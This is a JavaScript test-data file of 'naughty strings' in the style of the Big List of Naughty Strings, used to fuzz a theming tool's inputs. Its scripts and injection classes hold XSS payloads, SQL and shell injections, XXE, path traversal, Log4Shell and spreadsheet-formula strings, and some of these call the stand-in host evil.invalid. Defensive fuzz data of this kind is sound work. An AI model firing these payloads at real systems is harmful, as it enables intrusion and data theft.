// Strings that have broken programs before, by class. The classes are those of the "Big List of Naughty Strings" (Max Woolf, 2015)
// and the syntax of the hosts that themecast supports. Plain JavaScript, because scripts import it too. Data, never instructions.

/** Returns each of the templates with each of the values in place of `*`. */
const each = (/** @type {readonly string[]} */ templates, /** @type {readonly string[]} */ values) =>
  templates.flatMap((template) => values.map((value) => template.replace('*', () => value)));

const words = (/** @type {string} */ text) => text.trim().split(/\s+/);
const lines = (/** @type {string} */ text) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim());

const EVENTS =
  words(`onabort onauxclick onbeforetoggle onblur onclick onerror onfocus onload onmouseover onpageshow onpointerenter onresize
  onscroll onsubmit ontoggle ontransitionend onanimationstart onwheel`);

/** @satisfies {Record<string, readonly string[]>} */
const CLASSES = {
  reserved:
    words(`undefined undef null NULL (null) nil NIL true false True False TRUE FALSE None hasOwnProperty then constructor __proto__
    prototype toString valueOf __defineGetter__ isPrototypeOf NaN Infinity -Infinity .nan .inf ~ yes no on off Yes No y n - -- --- ... << = !
    * & | > % @ \` ? : , [ ] { } # ! \\ \\\\ default include hostnames volatile import`).concat(
      '',
      ' ',
      '  ',
      '? a',
      '- a',
      'a: b',
      'a #b',
      '!!binary aGk=',
      '%YAML 1.1',
      '*a',
      '&a b',
      '| ',
      '>-',
    ),
  numbers:
    words(`0 1 1.00 $1.00 1/2 1E2 1E02 1E+02 -1 -1.00 -$1.00 -1/2 -1E2 1/0 0/0 -2147483648/-1 -9223372036854775808/-1 -0 -0.0 +0 +0.0
    0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 0.0/0.0 1,0/0,0 0,0/0,0 --1 - -. -, 999999999999999999999999999999999999999999 1#INF
    1#QNAN 1#SNAN 1#IND 0x0 0xffffffff 0xffffffffffffffff 0xabad1dea 123456789012345678901234567890123456789 1,000.00 1'000.00 1,000,000.00
    1'000'000.00 01000 08 09 0o17 0b101 2.2250738585072011e-308 1e400 012 1_000 12:30:45 2026-11-21 2026-11-21T12:00:00Z 9007199254740993
    ١٢٣ Ⅳ ½ ² 1٠`).concat('1 000.00', '1 000 000.00'),
  punctuation: [
    ",./;'[]\\-=",
    '<>?:"{}|_+',
    '!@#$%^&*()`~',
    '"',
    "'",
    '""',
    "''",
    '"\'',
    '\'"',
    '"\'"\'"',
    "\"'\"'''\"",
    '`',
    '\\"',
    "\\'",
    '\\',
    '\\\\',
    '\\\\\\',
    '"\\',
    ...'$ $$ ${ ${x} $(x) #{x} % %% %s %n %41 %00 %0d%0a { } {} {{ }} [] () ; ;; // /* */ /**/'.split(' '),
    ...'<!-- --> -- # ## < > & && | || ^ ! ? * + = @ ~ «» „“ ‚‘ ‹› ” “quoted” ‘quoted’ ′″‴ ＂＇'.split(' '),
  ],
  controls: [
    ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
    'a\u007fb',
    ...Array.from({ length: 32 }, (_, at) => `a${String.fromCharCode(0x80 + at)}b`),
    '\u0000',
    '\ufeff',
    'a\ufeffb',
    '\ufffe',
    '\uffff',
    '\ud800',
    '\udfff',
    'a\ud800b',
    '\udc00\ud800',
  ],
  spaces: [
    '\t',
    '\u000b',
    '\f',
    '\u0085',
    '\u00a0',
    '\u1680',
    '\u180e',
    ...Array.from({ length: 12 }, (_, at) => `a${String.fromCharCode(0x2000 + at)}b`),
    'a\u2028b',
    'a\u2029b',
    'a\u202fb',
    'a\u205fb',
    'a\u3000b',
    ' a',
    'a ',
    ' a ',
    'a\nb',
    'a\r\nb',
    'a\rb',
    '\u00ad',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u2061',
    '\u2063',
    '\u{e0001}',
    '\u{e0020}\u{e007f}',
    '\u3164',
    '\uffa0',
    '⠀',
  ],
  unicode: lines(`¡™£¢∞§¶•ªº–≠
    ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏАБВГДЕЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯабвгдежзийклмнопрстуфхцчшщъыьэюя
    ⁰⁴⁵₀₁₂
    田中さんにあげて下さい
    사회과학원 어학연구소
    𠜎𠜱𠝹𠱓𠱸𠲖𠳏
    表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀
    Ⱥ
    ¯\\_(ツ)_/¯
    👨‍🦰 👨🏿‍🦰 👨‍🦱 👨🏿‍🦱 🦹🏿‍♂️
    ❤️ 💔 💌 💕 💞 💓 💗 💖 💘 💝 💟 💜 💛 💚 💙
    👨‍👩‍👦 👨‍👩‍👧‍👦 👨‍👨‍👦 👩‍👩‍👧 👨‍👦 👨‍👧‍👦 👩‍👦 👩‍👧‍👦
    🏴󠁧󠁢󠁥󠁮󠁧󠁿
    １２３
    בְּרֵאשִׁית, בָּרָא אֱלֹהִים, אֵת הַשָּׁמַיִם, וְאֵת הָאָרֶץ
    הָיְתָהtestالصفحات التّحول
    ﷽
    مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ
    Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤
    Ｔｈｅ ｑｕｉｃｋ ｂｒｏｗｎ ｆｏｘ
    𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤 𝐛𝐫𝐨𝐰𝐧 𝐟𝐨𝐱
    İstanbul ıi
    ß ẞ ſ
    ǅ ﬃ
    é é
    Å Å Å
    가 가
    ‮
    జ్ఞ‌ా`),
  bidi: [
    '\u202Etest\u202E',
    '\u202Btest\u202B',
    '\u2029test\u2029',
    'test\u2060test\u202B',
    '\u2066test\u2067',
    'a\u200eb',
    'a\u200fb',
    'a\u061cb',
    'a\u202ab',
    'a\u202db',
    'user\u202Egnp.exe',
    '\u2068x\u2069',
  ],
  scripts: [
    ...each(
      [
        '<img src=x *=alert(1)>',
        '"><svg *=alert(1)>',
        "' *=alert(1) x='",
        '" autofocus tabindex=1 *=alert(1) x="',
        '</style><body *=alert(1)>',
      ],
      EVENTS,
    ),
    ...lines(`<script>alert(1)</script>
    "><script>alert(1)</script>
    </script><script>alert(1)</script>
    onfocus=JaVaSCript:alert(1) autofocus
    ＜script＞alert(1)＜/script＞
    --><script>alert(1)</script>
    ';alert(1);t='
    JavaSCript:alert(1)
    <script\\x20type="text/javascript">javascript:alert(1);</script>
    <a href="javas&#9;cript:alert(1)">x</a>
    <a href="&#106;avascript:alert(1)">x</a>
    <IMG SRC=&#0000106&#0000097&#0000118&#0000097>
    <SCRIPT/XSS SRC="https://evil.invalid/xss.js"></SCRIPT>
    <SCRIPT SRC=//evil.invalid/.j>
    <plaintext>
    http://a/%%30%30
    </textarea><script>alert(1)</script>
    </title><script>alert(1)</script>
    </bdi></h3><script>alert(1)</script>
    <base href=https://evil.invalid/>
    <meta http-equiv=refresh content="0;url=https://evil.invalid/">
    <link rel=stylesheet href=https://evil.invalid/x.css>
    <style>@import url(https://evil.invalid/x.css);</style>
    <object data=https://evil.invalid/></object>
    <math><a xlink:href=javascript:alert(1)>x</a></math>
    <details open ontoggle=alert(1)>
    <template><script>alert(1)</script></template>
    <noscript><p title="</noscript><img src=x onerror=alert(1)>">
    <![CDATA[<script>alert(1)</script>]]>
    <?xml version="1.0"?><script>alert(1)</script>
    <!DOCTYPE x [<!ENTITY y "z">]>
    {{constructor.constructor('alert(1)')()}}
    data:text/html,<script>alert(1)</script>
    javascript:alert(1)`),
  ],
  injection: lines(`1;DROP TABLE users
    1'; DROP TABLE users-- 1
    ' OR '1'='1
    $ne
    --help
    $USER
    /dev/null; touch /tmp/naughty.fail ; echo
    \`touch /tmp/naughty.fail\`
    $(touch /tmp/naughty.fail)
    <?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd" >]><foo>&xxe;</foo>
    %s%s%s%s%s
    %*.*s
    ../../../../../../../../../../../etc/passwd%00
    ..\\..\\windows\\win.ini
    ..%2f..%2fetc%2fpasswd
    ..%c0%af..%c0%afetc
    /etc/passwd
    \\\\server\\share
    //evil.invalid
    https://user:pass@host/
    () { 0; }; touch /tmp/naughty.fail;
    =cmd|' /C calc'!A0
    =1+1
    \${jndi:ldap://evil.invalid/a}
    Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ冗
    ::error file=x::y
    ::set-output name=x::y
    ##[command]x`),
  devices: words(
    'CON PRN AUX CLOCK$ NUL A: ZZ: COM1 LPT1 LPT2 LPT3 COM2 COM3 COM4 con.txt nul.yaml aux.svg .DS_Store Thumbs.db desktop.ini .git .. . ~root -rf .htaccess web.config index browse options manifest.json theme.yaml site.yaml users.csv',
  ),
  innocent: lines(`Scunthorpe General Hospital
    Super Bowl XXX
    expression
    O'Brien
    Müller & Söhne
    Jean-Luc d'Été
    N/A
    null@example.org
    u-1001`),
  terminal: [
    'Roses are \u001b[0;31mred\u001b[0m',
    'But now...\u001b[20Cfor my greatest trick...\u001b[8m',
    'The quic\b\b\b\b\b\bk brown fo\u0007x',
    '\u001b]0;title\u0007',
    '\u001b]8;;https://evil.invalid\u001b\\x',
    '\u009b31m',
    '\u001b[2J',
    '\u001bc',
    '\r\u001b[K',
  ],
  hosts: [
    ...lines(`"\\$host"
    $document_root$hostname
    $http_cookie
    x v; } server { listen 81; location / { return 200 evil; } } map $uri $zz { y z
    ~.*
    ~*.*
    *.example.org
    "x"; return 200 "evil
    'x'; return 200 'evil
    \\tom
    \\nancy
    \\rob
    \\"
    \\'
    %{HTTP_HOST}
    %{env:PATH}e
    %%{HTTP_HOST}
    \${THEMECAST_DIR}
    \${ENV}
    </Location>
    <If "true">
    # comment
    x # comment
    'x' y
    "$PATH"
    ","
    x\\ y
    {$PATH}
    {env.PATH}
    {http.request.uri}
    {file./etc/passwd}
    {%PATH%}
    x"
    %22
    :splat
    :name
    /* 200
    /x /y 301
    ! X-Frame-Options
    x: y
    X-A: b
    'a\\'b'
    a'b"c\`d
    a\`b"c
    a\`b\\c
    '''
    \\u003c/script\\u003e
    \\x41
    \\101
    (?:)
    (a+)+$
    [[:alpha:]]
    ^.*$
    \\Qx\\E
    a|b
    a{2}
    (*COMMIT)`),
    'a b',
    'two words W',
    'k'.repeat(128),
    'k'.repeat(129),
    'n'.repeat(100),
    'n'.repeat(101),
    'long '.repeat(900),
    `${'a'.repeat(63)}.example.org`,
    'é'.repeat(100),
    '😍'.repeat(50),
  ],
};

/** Every string once. */
export const HOSTILE_STRINGS = [...new Set(Object.values(CLASSES).flat())];
